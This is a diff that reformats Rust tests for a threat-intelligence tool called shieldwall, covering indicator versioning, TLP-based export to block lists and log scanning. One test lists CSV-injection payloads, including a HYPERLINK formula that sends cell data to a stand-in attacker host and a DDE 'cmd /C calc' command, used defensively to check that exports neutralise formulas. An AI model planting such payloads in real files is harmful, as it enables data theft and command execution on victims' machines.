@@ -408,29 +408,104 @@ fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
         d,
         "old.json",
         vec![
-            at(21, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'tightened.evil.example']", &[GREEN], none.clone()),
-            at(22, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'revoked.evil.example']", &[GREEN], none.clone()),
-            at(23, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'old-value.evil.example']", &[GREEN], none.clone()),
-            at(24, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'expired.evil.example']", &[GREEN], none.clone()),
-            at(25, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'control.evil.example']", &[GREEN], none.clone()),
-            at(26, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'granular.evil.example']", &[GREEN],
-               json!({"granular_markings": [{"selectors": ["pattern"], "marking_ref": RED}]})),
-            at(27, "2024-01-01T00:00:00.000Z", "[domain-name:value = 'future.evil.example']", &[GREEN], none.clone()),
+            at(
+                21,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                22,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'revoked.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                23,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'old-value.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                24,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'expired.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                25,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'control.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                26,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'granular.evil.example']",
+                &[GREEN],
+                json!({"granular_markings": [{"selectors": ["pattern"], "marking_ref": RED}]}),
+            ),
+            at(
+                27,
+                "2024-01-01T00:00:00.000Z",
+                "[domain-name:value = 'future.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
         ],
     );
     let new = write_bundle(
         d,
         "new.json",
         vec![
-            at(21, "2024-02-01T00:00:00.000Z", "[domain-name:value = 'tightened.evil.example']", &[RED], none.clone()),
-            at(22, "2024-02-01T00:00:00.000Z", "[domain-name:value = 'revoked.evil.example']", &[GREEN], json!({"revoked": true})),
-            at(23, "2024-02-01T00:00:00.000Z", "[domain-name:value = 'new-value.evil.example']", &[GREEN], none.clone()),
-            at(24, "2024-02-01T00:00:00.000Z", "[domain-name:value = 'expired.evil.example']", &[GREEN],
-               json!({"valid_until": "2024-06-01T00:00:00Z"})),
-            at(27, "2024-02-01T00:00:00.000Z", "[domain-name:value = 'future.evil.example']", &[GREEN],
-               json!({"valid_from": "2099-01-01T00:00:00Z"})),
+            at(
+                21,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[RED],
+                none.clone(),
+            ),
+            at(
+                22,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'revoked.evil.example']",
+                &[GREEN],
+                json!({"revoked": true}),
+            ),
+            at(
+                23,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'new-value.evil.example']",
+                &[GREEN],
+                none.clone(),
+            ),
+            at(
+                24,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'expired.evil.example']",
+                &[GREEN],
+                json!({"valid_until": "2024-06-01T00:00:00Z"}),
+            ),
+            at(
+                27,
+                "2024-02-01T00:00:00.000Z",
+                "[domain-name:value = 'future.evil.example']",
+                &[GREEN],
+                json!({"valid_from": "2099-01-01T00:00:00Z"}),
+            ),
             // A version of 21 older than both, after them in the files: it changes nothing.
-            at(21, "2023-06-01T00:00:00.000Z", "[domain-name:value = 'tightened.evil.example']", &[CLEAR], none.clone()),
+            at(
+                21,
+                "2023-06-01T00:00:00.000Z",
+                "[domain-name:value = 'tightened.evil.example']",
+                &[CLEAR],
+                none.clone(),
+            ),
         ],
     );
     let export = |files: [&str; 2], audience: &str, extra: &[&str]| {
@@ -467,7 +542,11 @@ fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
         let o = export(files, "coalition", &["--any-time"]);
         assert_eq!(
             csv_values(&o),
-            ["control.evil.example", "future.evil.example", "new-value.evil.example"],
+            [
+                "control.evil.example",
+                "future.evil.example",
+                "new-value.evil.example"
+            ],
             "{}",
             stderr(&o)
         );
@@ -484,14 +563,24 @@ fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
     std::fs::write(&log_file, log).unwrap();
     for files in [[old.as_str(), new.as_str()], [new.as_str(), old.as_str()]] {
         let o = shieldwall(&[
-            "scan", "--json", "--indicators", files[0], "--indicators", files[1],
+            "scan",
+            "--json",
+            "--indicators",
+            files[0],
+            "--indicators",
+            files[1],
             log_file.to_str().unwrap(),
         ]);
         assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
         let mut hits: Vec<String> = String::from_utf8(o.stdout.clone())
             .unwrap()
             .lines()
-            .map(|l| serde_json::from_str::<Value>(l).unwrap()["value"].as_str().unwrap().to_owned())
+            .map(|l| {
+                serde_json::from_str::<Value>(l).unwrap()["value"]
+                    .as_str()
+                    .unwrap()
+                    .to_owned()
+            })
             .collect();
         hits.sort();
         // Scans are not block lists: the RED indicators (latest versions) are scanned for.
@@ -506,10 +595,24 @@ fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
             "{}",
             stderr(&o)
         );
-        assert!(stderr(&o).contains("older versions set aside: 6"), "{}", stderr(&o));
+        assert!(
+            stderr(&o).contains("older versions set aside: 6"),
+            "{}",
+            stderr(&o)
+        );
         // Only one file: version 1 of everything is the latest there.
-        let o = shieldwall(&["scan", "--json", "--indicators", &old, log_file.to_str().unwrap()]);
-        assert!(String::from_utf8(o.stdout).unwrap().contains("revoked.evil.example"));
+        let o = shieldwall(&[
+            "scan",
+            "--json",
+            "--indicators",
+            &old,
+            log_file.to_str().unwrap(),
+        ]);
+        assert!(
+            String::from_utf8(o.stdout)
+                .unwrap()
+                .contains("revoked.evil.example")
+        );
     }
 }
 
@@ -517,10 +620,17 @@ fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
 fn a_granular_red_marking_keeps_an_indicator_off_every_block_list() {
     let dir = tempfile::tempdir().unwrap();
     let d = dir.path();
-    let mut marked = ind(31, "[domain-name:value = 'granular.evil.example']", &[GREEN]);
-    marked["granular_markings"] =
-        json!([{"selectors": ["pattern"], "marking_ref": RED}, {"selectors": ["name"], "lang": "en"}]);
-    let mut amber_name = ind(32, "[domain-name:value = 'amber-name.evil.example']", &[CLEAR]);
+    let mut marked = ind(
+        31,
+        "[domain-name:value = 'granular.evil.example']",
+        &[GREEN],
+    );
+    marked["granular_markings"] = json!([{"selectors": ["pattern"], "marking_ref": RED}, {"selectors": ["name"], "lang": "en"}]);
+    let mut amber_name = ind(
+        32,
+        "[domain-name:value = 'amber-name.evil.example']",
+        &[CLEAR],
+    );
     amber_name["granular_markings"] = json!([{"selectors": ["name"], "marking_ref": AMBER}]);
     let f = write_bundle(
         d,
@@ -534,28 +644,59 @@ fn a_granular_red_marking_keeps_an_indicator_off_every_block_list() {
     for (audience, want) in [
         ("public", vec![]),
         ("coalition", vec!["control.evil.example"]),
-        ("internal", vec!["amber-name.evil.example", "control.evil.example"]),
+        (
+            "internal",
+            vec!["amber-name.evil.example", "control.evil.example"],
+        ),
     ] {
-        let o = shieldwall(&["export", "--format", "csv", "--audience", audience, "--indicators", &f]);
+        let o = shieldwall(&[
+            "export",
+            "--format",
+            "csv",
+            "--audience",
+            audience,
+            "--indicators",
+            &f,
+        ]);
         assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
         assert_eq!(csv_values(&o), want, "{audience}: {}", stderr(&o));
         // The CSV's TLP column is the effective one.
         if audience == "internal" {
             let text = String::from_utf8(o.stdout).unwrap();
-            assert!(text.contains(",domain,amber-name.evil.example,TLP:AMBER,"), "{text}");
+            assert!(
+                text.contains(",domain,amber-name.evil.example,TLP:AMBER,"),
+                "{text}"
+            );
         }
         for format in ["suricata", "zeek", "rpz"] {
-            let o = shieldwall(&["export", "--format", format, "--audience", audience, "--indicators", &f]);
+            let o = shieldwall(&[
+                "export",
+                "--format",
+                format,
+                "--audience",
+                audience,
+                "--indicators",
+                &f,
+            ]);
             assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
             assert!(
-                !String::from_utf8(o.stdout).unwrap().contains("granular.evil.example"),
+                !String::from_utf8(o.stdout)
+                    .unwrap()
+                    .contains("granular.evil.example"),
                 "{format} {audience}"
             );
         }
     }
     let feed = d.join("feed");
     let o = shieldwall(&[
-        "export", "--format", "misp-feed", "--audience", "internal", "--indicators", &f, "--out",
+        "export",
+        "--format",
+        "misp-feed",
+        "--audience",
+        "internal",
+        "--indicators",
+        &f,
+        "--out",
         feed.to_str().unwrap(),
     ]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
@@ -591,7 +732,10 @@ fn parse_csv(text: &str) -> Vec<Vec<String>> {
             (false, c) => cell.push(c),
         }
     }
-    assert!(!quoted && cell.is_empty() && row.is_empty(), "ends with a line");
+    assert!(
+        !quoted && cell.is_empty() && row.is_empty(),
+        "ends with a line"
+    );
     rows
 }
 
@@ -599,7 +743,10 @@ fn parse_csv(text: &str) -> Vec<Vec<String>> {
 fn csv_cells_cannot_become_spreadsheet_formulas() {
     let dir = tempfile::tempdir().unwrap();
     let hostile = [
-        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "file:name = '=cmd|\\' /C calc\\'!A0'"),
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "file:name = '=cmd|\\' /C calc\\'!A0'",
+        ),
         ("+SUM(1,2)", "file:name = '+1+2.exe'"),
         ("-2+3", "file:name = '-1.2.3.4'"),
         ("@SUM(A1:A9)", "url:value = '=http://evil.example/'"),
@@ -615,13 +762,36 @@ fn csv_cells_cannot_become_spreadsheet_formulas() {
             v
         })
         .collect();
-    objects.push(ind(50, "[domain-name:value = 'plain.evil.example' OR file:name = 'a-b=c.exe']", &[GREEN]));
+    objects.push(ind(
+        50,
+        "[domain-name:value = 'plain.evil.example' OR file:name = 'a-b=c.exe']",
+        &[GREEN],
+    ));
     let f = write_bundle(dir.path(), "hostile.json", objects);
-    let o = shieldwall(&["export", "--format", "csv", "--audience", "coalition", "--indicators", &f]);
+    let o = shieldwall(&[
+        "export",
+        "--format",
+        "csv",
+        "--audience",
+        "coalition",
+        "--indicators",
+        &f,
+    ]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let text = String::from_utf8(o.stdout).unwrap();
     let rows = parse_csv(&text);
-    assert_eq!(rows[0], ["indicator", "name", "type", "value", "tlp", "valid_from", "valid_until"]);
+    assert_eq!(
+        rows[0],
+        [
+            "indicator",
+            "name",
+            "type",
+            "value",
+            "tlp",
+            "valid_from",
+            "valid_until"
+        ]
+    );
     assert_eq!(rows.len(), 1 + hostile.len() + 2, "{text}");
     for row in &rows {
         assert_eq!(row.len(), 7, "{row:?} in {text}");
